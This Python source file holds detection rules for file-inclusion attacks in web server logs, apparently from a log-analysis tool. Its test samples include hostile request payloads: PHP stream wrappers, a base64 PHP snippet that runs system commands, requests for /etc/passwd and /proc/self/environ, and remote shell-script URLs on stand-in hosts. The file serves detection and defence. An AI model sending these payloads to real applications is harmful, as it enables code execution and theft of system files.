"""File inclusion: making the application load a local file or a remote script."""

from __future__ import annotations

from lwsyslog.events import Event
from lwsyslog.matching.linear import Regex, Search, linear_search
from lwsyslog.normalize import EventView
from lwsyslog.rules.base import BOTH, PatternRule, Rule, RuleMatch
from lwsyslog.rules.samples import AccessSample, ErrorSample
from lwsyslog.severity import Severity

__all__ = ["InclusionProcSelf", "InclusionRemoteUrl", "InclusionStreamWrapper"]


class InclusionStreamWrapper(PatternRule):
    """A PHP/Java stream wrapper (``php://filter``, ``expect://``, ``data://``...)."""

    id = "file-inclusion-wrapper"
    categories = ("file-inclusion",)
    severity = Severity.HIGH
    description = "stream wrapper (php://, expect://, data://, phar://, file://) in a parameter"
    logs = BOTH
    fields = ("target", "cookie", "message")
    # As a parameter value (or a PHP function argument in the error log), not inside a path;
    # or as a quoted JSON value or array item (``{"file":"php://...``, ``["a","phar://...``,
    # the quote maybe escaped: "\\" reads "/"). Not after an unquoted ":" or ",": prose
    # ("wrappers: php://filter, php://input").
    # PHP also takes an RFC 2397 data URI without the slashes (``data:;base64,...``); that one
    # counts when its bytes open PHP code: ``PD9`` is ``<?`` in base64 (seen lower-cased).
    pattern = Regex(
        r"(?:(?:^|[=(?])\s*['\"]?|[:,\[]\s*/?['\"])(?:php|expect|phar|zip|data|glob"
        r"|compress\.(?:zlib|bzip2)|file|jar|netdoc|gopher|dict)://"
        r"|(?:^|[=(?])\s*['\"]?data:[^,;/]*(?:/[^,;]*)?(?:;[^,;]*)*;base64,pd9"
    )
    trigger = r"://|data:"
    must_match = (
        AccessSample(target="/index.php?page=php://filter/convert.base64-encode/resource=index"),
        AccessSample(target="/index.php?page=expect%3A%2F%2Fid"),
        AccessSample(
            target="/index.php?p=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg=="
        ),
        AccessSample(target="/fetch?url=file:///etc/passwd"),
        AccessSample(target="/echo?name=data:;base64,PD9waHAgZWNobyAndzRwMXQxJzsgPz4="),
        AccessSample(target="/p?f=data:text/plain;charset=utf-8;base64,PD9waHAgcGhwaW5mbygpOz8%2B"),
        AccessSample(
            target="/api?q=%7B%22file%22%3A%22php%3A%2F%2Ffilter%2Fresource%3Dindex%22%7D"
        ),
        AccessSample(target='/api?q={"a":1,%20"f":%20"expect://id"}'),
        AccessSample(target='/api?files=["a.txt","phar://uploads/x.jpg/y"]'),
        AccessSample(target='/api?q={\\"file\\":\\"php://filter/resource=index\\"}'),
    )
    must_not_match = (
        AccessSample(target="/login?next=https://example.com/account"),
        AccessSample(target="/p?img=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"),
        AccessSample(target="/search?q=data:;base64,aGVsbG8="),
        AccessSample(target="/downloads/datafile.zip"),
        AccessSample(target="/misc/nmh//%22file://$file/%22"),
        AccessSample(target="/search?q=stream%20wrappers:%20php://filter,%20php://input"),
        AccessSample(target='/api?q={"doc":"notes on php wrappers"}'),
        AccessSample(target='/api?q={"url":"https://example.com/a"}'),
    )


_URL = r"(?:https?|ftps?)://"
# Where an include parameter is named for what it loads (``page=``, ``template=``,
# ``include_path=``).
_INCLUDE_NAME = (
    r"\b(?:page|file|include|inc|template|tpl|dir|module|mod|path|doc|folder|root|layout|conf"
    r"|lang|view|content|load|show)\w{0,12}"
)
# A script as the remote target whose name a trailing "?" cuts from the ".php" the application
# appends (``c99.php?``, ``shell.txt?``). A Windows UNC path (\\host\share\x.php, read with "/"
# once decoded) to a script in an include parameter: PHP on Windows includes it over SMB.
_SCRIPT_CUT = linear_search(
    Regex(
        rf"=\s*{_URL}[^&\s]+?\.(?:txt|php\d?|phtml|pl|py|sh|jpg|gif|png)\?+(?:&|$)"
        r"|\b(?:page|file|include|inc|template|tpl|module|mod|path|doc|layout|conf|lang|view"
        r"|content|load)\w{0,12}=\s*//[\w.-]+/[^&\s?]*\.(?:php\d?|phtml|inc|txt)(?:$|[&?\s])"
    )
)
# A text or script file ending the value (``r57.txt``; ``r57.txt%00`` once decoded).
_TEXT = r"[^&\s]+?\.(?:txt|sh|pl|py)(?:&|$)"
_SCRIPT = linear_search(Regex(rf"=\s*{_URL}{_TEXT}"))
# Any URL ending the request in "?": the cut-off trick without a script's name.
_CUT = linear_search(Regex(rf"=\s*{_URL}[^&\s]+?\?+$"))
# Any URL, or a text or script file's, in an include parameter.
_NAMED = linear_search(Regex(rf"{_INCLUDE_NAME}=\s*{_URL}[^&\s]*"))
_NAMED_SCRIPT = linear_search(Regex(rf"{_INCLUDE_NAME}=\s*{_URL}{_TEXT}"))
# A parameter whose name ends so holds a link, not what a page includes (``page_url=``).
_LINK_NAMES = ("url", "uri", "link", "href")
# A URL ending in a document's or a picture's name is what a viewer shows (pdf.js's
# ``viewer.html?file=https://.../manual.pdf``), not a script a page includes.
_DOCUMENTS = (
    ".pdf", ".png", ".jpg", ".jpeg", ".gif", ".svg", ".webp", ".ico", ".mp3", ".mp4", ".webm",
    ".ogg", ".wav", ".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pptx", ".odt", ".ods", ".epub",
    ".csv",
)  # fmt: skip


def _names_document(fragment: str) -> bool:
    """Whether the URL in ``fragment`` ends in a document's name (:data:`_DOCUMENTS`), with
    no "?" before it: ``x.php?.jpg`` is the cut trick, the application's suffix after it."""
    return fragment.endswith(_DOCUMENTS) and "?" not in fragment


# How many link parameters one field may hold before the rule stops reading on (a longer run
# of them is reported: the work per line stays bounded).
_MAX_LINKS = 8


def _include_parameter(search: Search, text: str) -> str | None:
    """The first match of ``search`` in ``text`` whose parameter is no link parameter and
    whose URL names no document (:data:`_DOCUMENTS`)."""
    rest = text
    for _ in range(_MAX_LINKS):
        fragment = search(rest)
        if fragment is None or not (
            fragment.split("=", 1)[0].endswith(_LINK_NAMES) or _names_document(fragment)
        ):
            return fragment
        rest = rest[rest.find(fragment) + len(fragment) :]
    return search(rest)


class InclusionRemoteUrl(Rule):
    """A remote script URL as an include parameter (``?page=http://x/shell.txt?``).

    A script's URL cut off by "?" (``c99.php?``, ``shell.txt?``) counts in any parameter and
    whatever the answer. A text or script file (``r57.txt``, ``r57.txt%00``), a URL that
    merely ends in "?", and any URL in a parameter named for what a page includes (``page=``,
    ``template=``) count unless the server answered with a redirect: a redirect or
    outbound-link parameter (``/out?url=https://www.example.org/page`` answered 302) hands the
    URL to the browser and no include runs; in an include parameter a text or script file
    still counts then. A parameter named for a link (``page_url=``, ``content_link=``) is no
    include parameter, and a plain link to a web page in any other parameter never counts;
    nor does a URL in an include parameter that names a document or a picture (``.pdf``,
    ``.png``): what a viewer shows (a PHP polyglot served as ``.pdf`` is missed for that).
    """

    id = "file-inclusion-remote"
    categories = ("file-inclusion",)
    severity = Severity.HIGH
    description = "remote file inclusion: a script/text URL, or a URL ending in '?', as a parameter"
    logs = BOTH
    fields = ("target", "message")
    triggers = dict.fromkeys(fields, r"://|=\s*//")
    must_match = (
        AccessSample(target="/index.php?page=http://203.0.113.50/shell.txt?"),
        AccessSample(target="/index.php?inc=hTTp%3A%2F%2Fevil.example%2Fc99.txt%3F%3F"),
        AccessSample(target="/main.php?template=https://evil.example/x"),
        AccessSample(target="/main.php?file=https://evil.example/x.pdf?"),
        AccessSample(target="/index.php?view=http://evil.example/long_name%3F.jpg"),
        AccessSample(target="/main.php?file=https://evil.example/x.pdf.php"),
        AccessSample(
            target="/main.php?page=https://evil.example/a.pdf&page=https://evil.example/x"
        ),
        AccessSample(target="/view.php?page=%5c%5c198.51.100.9%5cshare%5cshell.php"),
        AccessSample(target="/view.php?inc=%5C%5Cevil.example%5Cs%5Cx.txt&a=1"),
        AccessSample(target="/index.php?file=http://198.51.100.9/r57.txt%00"),
        AccessSample(target="/index.php?page=http://203.0.113.50/shell.txt?", status=302),
        AccessSample(target="/redirect.php?to=http://evil.example/c99.php?", status=302),
        AccessSample(target="/index.php?file=http://198.51.100.9/r57.txt", status=302),
        AccessSample(target="/fetch?url=http://198.51.100.9/r57.txt"),
        AccessSample(target="/index.php?lang=http://evil.example/x?"),
        AccessSample(target="/go?page_url=https://www.example.org/a&page=ftp://evil.example/x"),
        ErrorSample(
            message="AH00126: Invalid URI in request GET /index.php?page=http://evil.example/x "
            "HTTP/1.1"
        ),
    )
    must_not_match = (
        AccessSample(target="/login?next=https://example.com/account&lang=en"),
        AccessSample(target="/share?url=https://news.example.com/story?id=7&ref=tw"),
        AccessSample(target="/login?next=//www.example.com/account"),
        AccessSample(target="/view.php?page=//cdn.example.com/help/index.html"),
        AccessSample(target="/out?url=https://www.example.org/page", status=302),
        AccessSample(target="/redirect.php?to=http://partner.example.com/", status=302),
        AccessSample(target="/out?url=https://www.example.org/page?", status=302),
        AccessSample(target="/click?page=https://www.example.org/article", status=302),
        AccessSample(target="/track?page_url=https://www.example.org/article", status=204),
        AccessSample(target="/go?content_link=https://www.example.org/a.html"),
        AccessSample(target="/out?url=https://www.rfc-editor.org/rfc/rfc9110.txt", status=302),
        AccessSample(
            target="/pdfjs/web/viewer.html?file=https%3A%2F%2Fcdn.example.com%2Fdocs%2Fmanual.pdf"
        ),
        AccessSample(target="/gallery?view=https://cdn.example.com/photos/cat.JPG&size=2"),
    )

    def evaluate(self, event: Event, view: EventView) -> RuleMatch | None:
        """The first field holding a script's URL cut off by "?" or a URL in an include
        parameter (after a redirect, only a text or script file's); unless the answer was a
        redirect, also a text or script file's URL, or a URL cut off by "?", anywhere."""
        status = getattr(event, "status", None)
        redirected = status is not None and 300 <= status < 400
        for name in self.fields:
            text = view.lower(name)
            if not text:
                continue
            fragment = _SCRIPT_CUT.search(text) or _include_parameter(
                _NAMED_SCRIPT.search if redirected else _NAMED.search, text
            )
            if fragment is None and not redirected:
                fragment = _SCRIPT.search(text) or _CUT.search(text)
            if fragment is not None:
                return RuleMatch(name, fragment)
        return None


_PROC = r"proc/(?:self|\d{1,7}|thread-self)/(?:environ|cmdline|fd/\d|maps|status|cwd|exe|root)"


# In an error-log message, a server log or a session file counts only as what PHP was asked
# to include or read: the server writes both itself ("Unable to write to log file
# /var/log/apache2/access.log", a session handler's "open(/var/lib/php5/sess_..., O_RDWR)").
_READ_CALL = r"(?:include|require)(?:_once)?|file_get_contents|readfile|fopen|file|highlight_file"
_LOG_OR_SESSION = (
    r"(?:/var/log/(?:apache2?|httpd|nginx)/(?:access|error)[._]log"
    r"|(?:/var/lib/php\w*(?:/sessions)?|/tmp)/sess_)"
)
_IN_MESSAGE = linear_search(
    Regex(
        rf"/{_PROC}|(?:^|[^\w.-])(?P<frag>{_PROC})"
        rf"|\b(?:{_READ_CALL})\(\s*['\"]?(?P<frag1>[^)'\"\s]*{_LOG_OR_SESSION})"
    )
)


class InclusionProcSelf(PatternRule):
    """Local inclusion of process or log files used to escalate an LFI (``/proc/self/environ``).

    In an error-log message, a web server's log or a PHP session file counts only as the
    argument of an include or a file read (``include(/var/log/apache2/access.log)``).
    """

    id = "file-inclusion-proc"
    categories = ("file-inclusion",)
    severity = Severity.HIGH
    description = "/proc/self/*, web-server logs or PHP session files as an include target"
    logs = BOTH
    fields = ("query", "cookie", "message")
    # "proc/" after "/" (reported with it), or after what is no part of a name (not reported).
    pattern = Regex(
        rf"/{_PROC}|(?:^|[^\w.-])(?P<frag>{_PROC})"
        r"|/var/log/(?:apache2?|httpd|nginx)/(?:access|error)[._]log"
        r"|(?:/var/lib/php\w*(?:/sessions)?|/tmp)/sess_"
    )
    trigger = r"proc/|/var/log/|sess_"
    gate = "/"

    def match_field(self, field: str, text: str) -> str | None:
        """The pattern's match; in an error-log message, a log or session file only as what
        PHP includes or reads."""
        if field == "message":
            return _IN_MESSAGE.search(text)
        return self.linear.search(text)

    must_match = (
        AccessSample(target="/index.php?page=../../../../proc/self/environ"),
        AccessSample(target="/index.php?page=/var/log/apache2/access.log&cmd=id"),
        ErrorSample(message="PHP Warning:  include(/proc/self/environ): failed to open stream"),
        AccessSample(target="/index.php?page=proc/self/cmdline"),
        AccessSample(target="/index.php?page=../../../../var/lib/php/sessions/sess_ab12"),
        ErrorSample(
            message="PHP Warning:  include(/var/log/apache2/access.log): Failed to open stream"
        ),
        ErrorSample(message="PHP Warning:  include_once( /var/lib/php/sessions/sess_ab12): x"),
        ErrorSample(message="PHP Warning:  file_get_contents(../../../tmp/sess_ab12): x"),
    )
    must_not_match = (
        ErrorSample(
            message="AH00649: Unable to write to log file /var/log/apache2/access.log: No space "
            "left on device",
            client_ip="",
        ),
        ErrorSample(
            message="PHP Warning:  Unknown: open(/var/lib/php5/sess_abcdef1234567890, O_RDWR) "
            "failed: No space left on device (28) in Unknown on line 0"
        ),
        AccessSample(target="/docs/linux/proc-filesystem"),
        AccessSample(target="/blog/reading-var-log-files"),
        AccessSample(target="/docs?topic=linux/myproc/self/environ-notes"),
    )
